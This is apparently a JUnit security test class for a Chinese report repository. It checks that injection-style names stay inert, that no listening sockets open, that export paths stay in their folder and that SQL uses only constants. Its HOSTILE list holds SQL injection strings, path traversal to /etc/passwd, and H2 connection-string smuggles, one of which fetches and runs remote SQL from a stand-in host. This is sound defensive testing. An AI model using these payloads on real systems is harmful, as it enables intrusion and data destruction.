package cn.nianbao.store.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import cn.nianbao.store.ReportFiles;
import cn.nianbao.store.ReportRepository;
import cn.nianbao.store.ReportStatus;
import cn.nianbao.store.ReportSummary;
import cn.nianbao.store.RepositoryException;
import cn.nianbao.testing.TestData;

class SecurityTest {

    private static final List<String> HOSTILE = List.of("x'); DROP TABLE revision; --", "' OR '1'='1",
            "甲局\"; SHUTDOWN; --", "../../../../etc/passwd", "..\\..\\windows\\system32", "CON", "a/b\\c:d*e?f",
            "名称;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'");

    @TempDir
    Path data;

    @TempDir
    Path out;

    @Test
    void noListeningSocketIsOpened() throws Exception {
        Set<String> before = listeningSocketsOfThisProcess();
        try (ReportRepository repo = ReportRepository.open(data)) {
            repo.saveRevision(Reports.of("甲局", 2024, 1, 2), "a", null);
            repo.list(null, null);
            repo.verify();
            repo.backup(out.resolve("b.zip"));
            assertEquals(before, listeningSocketsOfThisProcess());
        }
        assertEquals(before, listeningSocketsOfThisProcess());
    }

    @Test
    void hostileNamesAreDataNotSql() throws Exception {
        try (ReportRepository repo = ReportRepository.open(data)) {
            for (String name : HOSTILE) {
                repo.saveRevision(Reports.of(name, 2024, 1, 2), name, null);
            }
            assertEquals(HOSTILE.size(), repo.list(null, null).size());
            for (String name : HOSTILE) {
                List<ReportSummary> one = repo.list(name, null);
                assertEquals(1, one.size(), name);
                assertEquals(name.strip(), one.get(0).agency());
                assertEquals(name, repo.history(one.get(0).id()).get(0).author());
            }
            assertTrue(repo.verify().ok());
            RepositoryException e = assertThrows(RepositoryException.class,
                    () -> repo.saveRevision(Reports.of("\u0000甲", 2024, 1, 2), "a", null));
            assertEquals(RepositoryException.Kind.INVALID_REPORT, e.kind(), e.getMessage());
        }
    }

    @Test
    void aDataFolderCannotSmuggleDatabaseSettings() throws Exception {
        Path crafted = data.resolve("x;INIT=CREATE TABLE pwned(a INT)");
        RepositoryException e = assertThrows(RepositoryException.class, () -> ReportRepository.open(crafted));
        assertEquals(RepositoryException.Kind.BAD_DATA_FOLDER, e.kind());
        try (Stream<Path> files = Files.list(data)) {
            assertEquals(0, files.count());
        }
    }

    @Test
    void exportFileNamesStayInTheirFolder() throws Exception {
        long id = 1;
        for (String name : HOSTILE) {
            ReportSummary summary = new ReportSummary(id++, name, null, null, 2024, "2021", ReportStatus.PUBLISHED, 1,
                    1, null);
            Path file = ReportFiles.in(out, summary, "../nianbao");
            assertEquals(out.toAbsolutePath().normalize(), file.getParent(), name);
            assertFalse(file.getFileName().toString().contains(".."), file.toString());
        }
    }

    /** Every statement the store prepares or executes is made of constants: no variable text reaches SQL. */
    @Test
    void sqlIsBuiltFromConstantsOnly() throws IOException {
        Set<String> allowed = Set.of("REPORTS", "REVISIONS", "AGENCY_HISTORY", "RECORDS", "REPORT_ROWS", "NUMBERS", "Verifier", "where", "sql",
                "Statement", "RETURN_GENERATED_KEYS", "INSERT", "SELECT");
        Pattern call = Pattern.compile("(prepareStatement|executeQuery|executeUpdate|execute)\\(([^;{}]*?)\\)\\s*[;)]");
        Path src = TestData.root().resolve("bundles/cn.nianbao.store/src");
        int calls = 0;
        try (Stream<Path> files = Files.walk(src)) {
            for (Path file : files.filter(f -> f.toString().endsWith(".java")).toList()) {
                String code = Files.readString(file).replaceAll("\"(\\\\.|[^\"\\\\])*\"", "\"\"");
                Matcher m = call.matcher(code);
                while (m.find()) {
                    calls++;
                    Matcher word = Pattern.compile("[A-Za-z_][A-Za-z0-9_]*").matcher(m.group(2));
                    Set<String> names = new HashSet<>();
                    while (word.find()) {
                        names.add(word.group());
                    }
                    names.removeAll(allowed);
                    assertTrue(names.isEmpty(), file.getFileName() + ": " + m.group());
                }
            }
        }
        assertTrue(calls > 20, "calls found: " + calls);
    }

    /** Socket inodes of this process that are in the LISTEN state (Linux: /proc/self/fd and /proc/net/tcp*). */
    static Set<String> listeningSocketsOfThisProcess() throws IOException {
        Set<String> listening = new HashSet<>();
        for (String table : List.of("/proc/self/net/tcp", "/proc/self/net/tcp6")) {
            Path file = Path.of(table);
            if (Files.exists(file)) {
                for (String line : Files.readAllLines(file)) {
                    String[] f = line.trim().split("\\s+");
                    if (f.length > 9 && "0A".equals(f[3])) {
                        listening.add(f[9]);
                    }
                }
            }
        }
        Set<String> mine = new HashSet<>();
        try (Stream<Path> fds = Files.list(Path.of("/proc/self/fd"))) {
            for (Path fd : fds.toList()) {
                try {
                    String target = Files.readSymbolicLink(fd).toString();
                    if (target.startsWith("socket:[")) {
                        mine.add(target.substring(8, target.length() - 1));
                    }
                } catch (IOException e) {
                    // the descriptor closed meanwhile
                }
            }
        }
        mine.retainAll(listening);
        return mine;
    }
}
